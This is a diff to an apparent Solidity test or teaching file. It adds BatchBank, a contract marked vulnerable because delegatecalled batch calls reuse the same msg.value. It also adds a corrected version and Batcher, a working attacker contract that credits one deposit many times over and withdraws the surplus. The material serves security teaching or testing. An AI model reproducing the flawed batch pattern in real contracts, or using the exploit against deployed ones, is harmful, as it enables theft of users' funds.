@@ -73,3 +73,45 @@ contract HonestBorrower is IBorrower {
         lender.repay{value: msg.value}();
     }
 }
+
+/// @notice VULNERABLE (value extraction): calls in a batch all see the same ether.
+contract BatchBank is EtherLender {
+    function batch(bytes[] calldata calls) external payable virtual {
+        for (uint256 i = 0; i < calls.length; ++i) {
+            (bool done,) = address(this).delegatecall(calls[i]);
+            require(done, "failed");
+        }
+    }
+}
+
+/// @notice The same, corrected: a batch brings no ether.
+contract BatchBankFixed is BatchBank {
+    function batch(bytes[] calldata calls) external payable override {
+        require(msg.value == 0, "no ether");
+        for (uint256 i = 0; i < calls.length; ++i) {
+            (bool done,) = address(this).delegatecall(calls[i]);
+            require(done, "failed");
+        }
+    }
+}
+
+/// @notice Deposits the same ether as often as it is told, and takes out what it is credited.
+contract Batcher {
+    uint256 public failures;
+
+    function run(BatchBank bank, uint256 times) external payable {
+        bytes[] memory calls = new bytes[](times);
+        for (uint256 i = 0; i < times; ++i) {
+            calls[i] = abi.encodeCall(bank.deposit, ());
+        }
+        try bank.batch{value: msg.value}(calls) {} catch {
+            ++failures;
+            bank.deposit{value: msg.value}();
+        }
+        bank.withdraw();
+        (bool sent,) = msg.sender.call{value: address(this).balance}("");
+        require(sent, "not sent");
+    }
+
+    receive() external payable {}
+}
